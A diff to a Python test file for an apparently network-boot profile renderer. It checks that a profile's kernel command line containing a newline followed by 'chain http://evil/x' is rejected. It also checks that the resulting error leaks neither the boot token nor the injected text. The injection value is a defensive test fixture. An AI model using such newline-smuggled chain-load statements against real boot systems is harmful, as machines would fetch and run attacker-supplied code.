@@ -102,8 +102,10 @@ def test_profile_values_cannot_add_statements(inventory: Inventory) -> None:
     inventory.add_profile(profile_doc("evil-01", {"type": "image", "kernel": "k", "initrd": "i",
                                                   "cmdline": "quiet\nchain http://evil/x"}))
     inventory.bind("evil-01", "blade-8")
-    with pytest.raises(ValueError, match="control characters"):
+    with pytest.raises(ValueError, match="control character") as err:
         render(inventory, "52:54:00:00:08:01")
+    # The error reaches the log: it must not quote the command line, which carries the boot token.
+    assert "anvil.token" not in str(err.value) and "evil" not in str(err.value)
 
 
 def test_released_binding_is_not_found_by_its_profile_mac(inventory: Inventory) -> None:
